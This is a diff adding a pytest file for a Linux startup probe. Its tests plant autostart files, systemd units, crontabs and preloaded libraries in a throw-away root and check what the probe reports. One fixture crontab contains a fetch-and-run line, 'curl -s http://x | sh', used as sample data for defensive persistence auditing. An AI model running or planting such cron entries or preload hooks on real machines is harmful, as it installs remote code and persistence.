@@ -1,0 +1,168 @@
+"""What starts by itself on Linux: files in a throw-away root."""
+
+import os
+
+import pytest
+
+from core.model.unknown import Unknown, UnknownCode
+from core.probes.ask import Ask
+from core.probes.startup.facts import Changeable
+from core.probes.startup.linux import read
+from core.probes.system_linux import LinuxSystem
+
+PASSWD = """root:x:0:0:root:/root:/bin/bash
+daemon:x:1:1::/usr/sbin:/usr/sbin/nologin
+an:x:1000:1000:Nguyen Van An:/home/an:/bin/bash
+damaged:line
+:x:99999999999999999999:0::/x:/bin/sh
+"""
+
+
+@pytest.fixture
+def machine(system):
+    system.write("/etc/passwd", PASSWD)
+    system.preloaded = lambda: ()
+    return system
+
+
+def programs(entries):
+    return [each.programs for each in entries]
+
+
+def test_autostart_files(machine):
+    machine.write("/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=/usr/bin/a --x\n")
+    machine.write("/home/an/.config/autostart/b.desktop", "[Desktop Entry]\nExec=~/.x/b\n")
+    off = "[Desktop Entry]\nExec=/usr/bin/c\nHidden=true\n"
+    machine.write("/home/an/.config/autostart/c.desktop", off)
+    machine.write("/home/an/.config/autostart/notes.txt", "Exec=/tmp/x")
+    machine.write("/root/.config/autostart/d.desktop", "[Other]\nExec=/tmp/d\n")
+
+    found = read(machine, Ask()).at_sign_in
+
+    assert programs(found) == [("/usr/bin/a",), ("/home/an/.x/b",)]
+    assert found[1].place == "/home/an/.config/autostart/b.desktop"
+
+
+def test_units_that_no_package_brought(machine):
+    unit = "[Service]\nExecStartPre=-/opt/x/check\nExecStart=/bin/sh -c '/opt/x/run; /tmp/y'\n"
+    machine.write("/etc/systemd/system/x.service", unit)
+    machine.write("/etc/systemd/system/x.service.d/more.conf", "[Service]\nExecStart=@/opt/z z\n")
+    machine.write("/usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd\n")
+    folder = machine.root / "etc/systemd/system/multi-user.target.wants"
+    folder.mkdir()
+    os.symlink("/usr/lib/systemd/system/ssh.service", folder / "ssh.service")
+    os.symlink("/dev/null", machine.root / "etc/systemd/system/off.service")
+    machine.write("/home/an/.config/systemd/user/y.service", "[Service]\nExecStart=%h/bin/y\n")
+
+    facts = read(machine, Ask())
+
+    assert programs(facts.services) == [
+        ("/opt/x/check",),
+        ("/bin/sh", "/opt/x/run", "/tmp/y"),
+        ("/opt/z",),
+    ]
+    assert programs(facts.at_sign_in) == [("/home/an/bin/y",)]
+
+
+def test_crontabs(machine):
+    machine.write(
+        "/etc/crontab",
+        "SHELL=/bin/sh\n# m h dom mon dow user command\n"
+        "17 * * * * root cd / && run-parts /etc/cron.hourly\n"
+        "25 6 * * 1 an test -x /usr/sbin/anacron || /home/an/x.sh\n",
+    )
+    machine.write("/etc/cron.d/b", "@reboot root /usr/local/bin/b\n")
+    machine.write("/etc/cron.daily/c", "#!/bin/sh\n")
+    machine.write("/etc/cron.daily/.placeholder", "")
+    machine.write("/var/spool/cron/crontabs/an", "*/5 * * * * curl -s http://x | sh\n@daily ~/d\n")
+
+    found = {each.command: each.programs for each in read(machine, Ask()).tasks}
+
+    assert found == {
+        "cd / && run-parts /etc/cron.hourly": (),
+        "test -x /usr/sbin/anacron || /home/an/x.sh": ("/home/an/x.sh",),
+        "/usr/local/bin/b": ("/usr/local/bin/b",),
+        "/etc/cron.daily/c": ("/etc/cron.daily/c",),
+        "curl -s http://x | sh": (),
+        "~/d": ("/home/an/d",),
+    }
+
+
+@pytest.mark.parametrize(
+    ("mode", "folder_mode", "expected"),
+    [
+        (0o755, 0o755, Changeable.NOBODY),
+        (0o757, 0o755, Changeable.EVERYONE),
+        (0o755, 0o777, Changeable.EVERYONE),
+        (0o755, 0o1777, Changeable.NOBODY),
+    ],
+)
+def test_who_may_change_a_program(machine, mode, folder_mode, expected):
+    place = machine.write("/opt/x/run", "", mode)
+    place.parent.chmod(folder_mode)
+    own = os.getuid()
+    machine.write("/etc/passwd", f"own:x:{own}:0::/home/own:/bin/sh\n")
+    machine.write("/var/spool/cron/crontabs/own", "@daily /opt/x/run\n")
+
+    (entry,) = [each for each in read(machine, Ask()).tasks if each.programs]
+    changeable = entry.changeable
+    if own and not 1000 <= own < 60_000:
+        pytest.skip("an account of the system has no crontab of its own here")
+    assert changeable is expected
+
+
+@pytest.mark.system("root")
+def test_a_program_of_another_account_run_by_root(machine):
+    place = machine.write("/opt/x/run", "")
+    os.chown(place, 1000, 1000)
+    machine.write("/etc/cron.d/x", "@daily root /opt/x/run\n")
+
+    assert [each.changeable for each in read(machine, Ask()).tasks] == [Changeable.OTHERS]
+
+
+def test_preloaded_libraries(machine):
+    machine.write("/etc/ld.so.preload", "# none\n/usr/local/lib/a.so:/tmp/b.so\n")
+    machine.write("/etc/environment", 'PATH=/bin\nLD_PRELOAD="/tmp/c.so"\n')
+
+    found = read(machine, Ask()).between
+
+    assert [each.value for each in found] == ["/usr/local/lib/a.so", "/tmp/b.so", "/tmp/c.so"]
+
+
+def test_what_may_not_be_read_is_named(machine):
+    real = machine.list_folder
+
+    def refuse(path):
+        if path == "/var/spool/cron/crontabs":
+            return Unknown(UnknownCode.NO_RIGHT, path)
+        return real(path)
+
+    machine.list_folder = refuse
+    assert read(machine, Ask()).unseen == ("/var/spool/cron/crontabs",)
+
+
+def test_an_empty_machine_starts_nothing(system):
+    system.preloaded = lambda: Unknown(UnknownCode.UNREADABLE, "/proc")
+    facts = read(system, Ask())
+
+    assert (facts.at_sign_in, facts.services, facts.tasks) == ((), (), ())
+    assert facts.between == Unknown(UnknownCode.UNREADABLE, "/proc")
+
+
+def test_a_real_program_with_a_preloaded_library(tmp_path):
+    import subprocess
+    import sys
+
+    library = str(tmp_path / "none.so")
+    child = subprocess.Popen(
+        [sys.executable, "-c", "input()"],
+        env={"LD_PRELOAD": library},
+        stdin=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+    )
+    try:
+        found = LinuxSystem().preloaded()
+    finally:
+        child.communicate(b"\n")
+    assert isinstance(found, tuple)
+    assert library in [each.library for each in found if each.pid == child.pid]
